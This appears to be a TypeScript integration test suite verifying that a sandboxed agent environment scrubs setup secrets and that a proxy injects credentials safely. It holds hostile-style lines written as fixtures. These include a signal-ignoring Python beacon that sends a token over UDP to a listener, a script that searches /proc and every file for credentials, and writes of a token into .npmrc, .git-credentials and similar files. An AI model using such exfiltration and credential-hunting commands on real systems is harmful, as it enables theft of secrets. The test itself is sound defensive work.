import { execFile } from 'node:child_process';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunId } from '../../src-main/contract/ids.ts';
import { networkPolicy } from '../../src-main/contract/network.ts';
import { currentTurn } from '../../src-main/domain/run-machine.ts';
import { newCommand, runEnd, startDrydock, wholeLog, type TestDrydock } from '../support/drydock.ts';
import { listenEverywhere } from '../support/listening-machine.ts';
import { createWorld, type World } from '../support/proxy-world.ts';
import { addSmallProject, type SmallProject } from '../support/small-project.ts';

const exec = promisify(execFile);
const TOKEN = 'tok_9f1c-7Qz/8+secret';
const PEM = '-----BEGIN KEY-----\nmZ3vUQx81LkPq0aA\n7yT5rWdC2sNbXe4f\n-----END KEY-----\n';
const HEADER = 'Bearer hdr-4Kd9-wPz6Q';
/** Pieces of the secrets, plain, in base64 and in hex, that must be nowhere. */
const TRACES = ['9f1c-7Qz', 'UQx81LkPq0aA', 'hdr-4Kd9', ...[TOKEN, HEADER].flatMap((value) => [Buffer.from(value).toString('base64').slice(4, 16), Buffer.from(value).toString('hex').slice(8, 24)])];
const secrets = [{ name: 'TOKEN', file: null }, { name: 'PEM', file: '~/.ssh/id_test' }];

let test: TestDrydock;
let small: SmallProject;
let world: World;

beforeAll(async () => {
  world = await createWorld();
  for (const name of ['read.test', 'other.test']) world.names.set(name, ['93.184.216.34']);
  test = await startDrydock({ reach: world.reach });
  small = await addSmallProject(test);
  for (const [name, value] of [['TOKEN', TOKEN], ['PEM', PEM], ['HEADER', HEADER]] as const) await keep(name, value);
});
afterAll(async () => {
  await test.dispose();
  await small.remove();
  await world.close();
});

const keep = (name: string, value: string) => test.client.secrets.set({ commandId: newCommand(), projectId: small.project.id, name, given: { kind: 'value', value } });
const said = async (id: RunId, source?: string): Promise<string> => (await wholeLog(test, id, source)).toString('latin1');

/** A file as text. A log is compressed right after its end, perhaps just now: it is raw until it is whole in its other form. */
const textOf = async (path: string): Promise<string> => {
  const [, raw] = /^(.*\.log)(?:\.gz)?(?:\.new)?$/.exec(path) ?? [];
  const bytes = raw === undefined ? readFile(path) : readFile(raw).catch(() => readFile(`${raw}.gz`).then(gunzipSync));
  return (await bytes).toString('latin1');
};

/** Every file of the data directory and every answer about a run, as one text. */
const kept = async (id: RunId): Promise<string> => {
  const entries = await readdir(test.dataDirectory, { recursive: true, withFileTypes: true });
  const files = await Promise.all(entries.filter((entry) => entry.isFile()).map((entry) => textOf(join(entry.parentPath, entry.name))));
  const answers = [await test.client.secrets.list({ projectId: small.project.id }), await test.client.runs.network({ runId: id }), await test.client.projects.list({})];
  return [...files, await said(id), JSON.stringify(answers)].join('\n');
};
const expectNoTrace = (text: string): void => expect(TRACES.filter((trace) => text.includes(trace))).toEqual([]);

/** Looks, from inside, wherever a credential could be; says only what it found. The first letters are apart so that it does not find itself. */
const LOOK = String.raw`
a=9f1; b=UQx81; c=hdr-
for word in "$a"c-7Qz "$b"LkPq0aA "$c"4Kd9; do
  env | grep -F "$word" && echo "in the environment"
  for process in /proc/[0-9]*; do for part in environ cmdline; do tr '\0' '\n' < "$process/$part" 2>/dev/null | grep -F "$word" && echo "in $process/$part"; done; done
  grep -rlF "$word" / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | sed 's/^/in a file: /'
done
ls -d ~/daemon-was-here; cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' ' | grep -o 'survi[v]or'
echo "looked"`;

describe('a secret of setup', () => {
  it('is nowhere afterwards: no process, file, variable, image, inspection, log, database or answer, also if a process of setup would not end', async () => {
    await small.setEnvironment({
      secrets,
      setup: [
        'touch ~/daemon-was-here',
        String.raw`setsid nohup python3 -c 'import signal,time; [signal.signal(each, signal.SIG_IGN) for each in (1, 2, 15)]; time.sleep(600)' survivor >/dev/null 2>&1 &`,
        'echo "plain $TOKEN"; printf %s "user:$TOKEN" | base64; printf %s "$TOKEN" | od -An -tx1 | tr -d " \\n"; echo',
        `python3 -c 'import os,sys,time; t=os.environ["TOKEN"]; sys.stdout.write(t[:9]); sys.stdout.flush(); time.sleep(0.3); print(t[9:])'`,
        String.raw`python3 -c 'import os,sys; t=os.environ["TOKEN"]; print(t[:6] + "\x1b[31m" + t[6:12] + "\x1b[0m\x1b]0;title\x07" + t[12:])'`,
        'cat ~/.ssh/id_test; sed "s/^/  | /" ~/.ssh/id_test; echo setup is done',
      ].join('\n'),
    });
    const run = await runEnd(test, (await small.script(LOOK)).id);
    expect([run.state.name, await said(run.id, 'work')]).toEqual(['reviewable', '/home/agent/daemon-was-here\nlooked\n']);
    expect(await said(run.id)).toContain('setup is done');
    const { image = '' } = currentTurn(run).snapshot ?? {};
    const { stdout: inspected } = await exec('docker', ['image', 'inspect', image]);
    const { stdout: history } = await exec('docker', ['history', '--no-trunc', image]);
    expectNoTrace([inspected, history, JSON.stringify(run), await kept(run.id)].join('\n'));
  });

  it('in a process that will not end is not heard of any more when the work begins', async () => {
    const machine = await listenEverywhere();
    try {
      const beacon = `import os, signal, socket, time
for each in (1, 2, 15): signal.signal(each, signal.SIG_IGN)
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
  for address in ${JSON.stringify(machine.addresses.filter((address) => !address.includes(':')))}:
    out.sendto(os.environ["TOKEN"].encode(), (address, ${machine.udpPort}))
  time.sleep(0.02)`;
      await small.setEnvironment({ secrets, setup: `setsid nohup python3 -c '${beacon}' >/dev/null 2>&1 & sleep 0.5` });
      const run = await small.script('echo begun; sleep 1.5; echo end');
      await expect.poll(() => said(run.id, 'work'), { timeout: 30_000 }).toContain('begun');
      expect(machine.came.length).toBeGreaterThan(0);
      machine.came.length = 0;
      expect((await runEnd(test, run.id)).state.name).toBe('reviewable');
      expect(machine.came).toEqual([]);
    } finally {
      machine.close();
    }
  });

  it('that a process writes anew until it is killed fails the seal, unless it was killed before it had written', async () => {
    await small.setEnvironment({ secrets, setup: `setsid nohup sh -c 'while :; do printf %s "$TOKEN" > ~/.npmrc; sleep 0.05; done' >/dev/null 2>&1 & sleep 0.2` });
    const run = await runEnd(test, (await small.script('cat ~/.npmrc 2>/dev/null; echo looked')).id);
    if (run.state.name === 'failed') expect(run.state).toMatchObject({ phase: 'sealing', reason: { fault: { code: 'secretFound', message: expect.stringContaining('.npmrc') } } });
    else expect([run.state.name, await said(run.id, 'work')]).toEqual(['reviewable', 'looked\n']);
    expectNoTrace(JSON.stringify(run) + (await kept(run.id)));
  });

  it('written to a dozen places in a dozen forms: each is cleared or found', async () => {
    const places: readonly (readonly [string, string])[] = [
      ['/home/agent/p-plain', 'printf %s "$TOKEN"'],
      ['/tmp/p-temporary', 'printf %s "$TOKEN"'],
      ['/var/tmp/p-base64', 'printf %s "$TOKEN" | base64'],
      ['/workspace/p-user', 'printf "me:%s" "$TOKEN" | base64'],
      ['/workspace/p-hex', 'printf %s "$TOKEN" | od -An -tx1 | tr -d " \\n"'],
      ['/workspace/.git-p-percent', `python3 -c 'import os,urllib.parse; print(urllib.parse.quote(os.environ["TOKEN"], safe=""))'`],
      ['/home/agent/p-line', 'sed -n 2p ~/.ssh/id_test'],
      ['/home/agent/p-binary', 'head -c 3000000 /dev/zero; printf %s "$TOKEN"'],
      ['/home/agent/p-mode', 'printf %s "$TOKEN"'],
      ['/home/agent/p-xml', 'printf "<a b=\\"%s\\"/>" "$TOKEN"'],
      ['/home/agent/p-urlsafe', `python3 -c 'import os,base64; print(base64.urlsafe_b64encode(b"xy" + os.environ["TOKEN"].encode()).decode())'`],
      ['/home/agent/.cache/p-deep/down', 'printf "a%sb" "$TOKEN"'],
    ];
    const cleared = ['.npmrc', '.netrc', '.git-credentials', '.docker/config.json', '.bash_history', '.config/gh/hosts.yml', '.cargo/credentials.toml', '.config/pip/pip.conf'];
    await small.setEnvironment({
      secrets,
      setup: [
        'mkdir -p ~/.cache/p-deep ~/.docker ~/.config/gh ~/.config/pip ~/.cargo',
        ...places.map(([path, command]) => `${command} > ${path}`),
        'chmod 000 ~/p-mode; touch -d 2001-01-01 ~/p-plain',
        ...cleared.map((path) => `printf %s "$TOKEN" > ~/${path}`),
        'git config --global url.x.insteadOf "https://$TOKEN@host.test/"',
      ].join('\n'),
    });
    const run = await runEnd(test, (await small.script('true')).id);
    expect(run.state).toMatchObject({ name: 'failed', phase: 'sealing', reason: { fault: { code: 'secretFound' } } });
    expect(JSON.stringify(run.state)).toContain(`in ${places.length - 1} more places`);
    expectNoTrace(JSON.stringify(run) + (await kept(run.id)));
  });

  it('in an attribute of a file is not carried into the image', async () => {
    await small.setEnvironment({ secrets, setup: `python3 -c 'import os; open("/home/agent/marked", "w").close(); os.setxattr("/home/agent/marked", "user.note", os.environ["TOKEN"].encode())'` });
    const run = await runEnd(test, (await small.script(`python3 -c 'import os; print(os.listxattr("/home/agent/marked"))'`)).id);
    expect([run.state.name, await said(run.id, 'work')]).toEqual(['reviewable', '[]\n']);
  });

  it.each([['a common word', 'password'], ['one with a number', 'test1234'], ['a short one', 'a8Kq2'], ['nothing', '  \n'], ['a row', '1234567890']])('that is %s is refused', async (_, value) => {
    await expect(keep('WEAK', value)).rejects.toMatchObject({ data: { code: 'invalid', message: expect.stringContaining('WEAK') } });
    expect((await test.client.secrets.list({ projectId: small.project.id })).secrets.map(({ name }) => name)).not.toContain('WEAK');
  });
});

describe('a credential that the proxy adds', () => {
  it('is never seen inside, not in an echo either, replaces what the client sends, and goes to its host alone', async () => {
    world.answer = (request, response) => {
      const echo = JSON.stringify(request.headers);
      const zipped = request.url === '/gzip';
      if (request.url === '/away') return void response.writeHead(302, { Location: 'https://other.test/stolen' }).end();
      response.writeHead(200, { 'X-Echo': request.headers.authorization ?? 'none', ...(zipped ? { 'Content-Encoding': 'gzip' } : {}) });
      response.end(zipped ? gzipSync(echo) : echo);
    };
    await small.setEnvironment({
      secrets: [],
      setup: '',
      network: networkPolicy.parse({ rules: [{ host: 'read.test' }, { host: 'other.test', methods: ['GET'] }] }),
      inject: [{ host: 'read.test', header: 'Authorization', secret: 'HEADER' }],
    });
    const command = [
      'curl -sSi https://read.test/plain -H "Authorization: Bearer of-the-attacker"; echo',
      'curl -sSi --compressed https://read.test/gzip; echo',
      'curl -sSi https://read.test/gzip -H "Accept-Encoding: gzip" --output - | od -c | head -3',
      'curl -sSi https://other.test/other -H "Authorization: Bearer of-the-run"; echo',
      'curl -sSi http://read.test/without-tls; echo',
      'curl -sSL https://read.test/away; echo',
      'curl -sSi --compressed https://read.test/gzip > ~/kept; curl -sSi https://read.test/plain >> ~/kept',
      'curl -sSi https://read.test/host -H "Host: other.test"; echo',
      LOOK.replace('ls -d ~/daemon-was-here;', ''),
    ].join('\n');
    const run = await runEnd(test, (await small.launch({ runsWith: { mode: 'script', command, internet: 'allowlist' } })).id);
    const log = await said(run.id, 'work');
    expect([run.state.name, log]).toEqual(['reviewable', expect.stringMatching(/looked\n$/)]);
    expect(log).not.toMatch(/in the environment|in \/proc|in a file/);
    expect(log).toContain(`"authorization":"${'*'.repeat(HEADER.length)}"`);
    const credentials = world.arrived.map(({ url, headers }) => [url, headers.filter((_, at) => at % 2 === 1 && headers[at - 1]?.toLowerCase() === 'authorization')]);
    expect(credentials).toEqual([['/plain', [HEADER]], ['/gzip', [HEADER]], ['/gzip', [HEADER]], ['/other', ['Bearer of-the-run']], ['/without-tls', []], ['/away', [HEADER]], ['/stolen', []], ['/gzip', [HEADER]], ['/plain', [HEADER]]]);
    expectNoTrace(JSON.stringify(run) + (await kept(run.id)));
  });
});
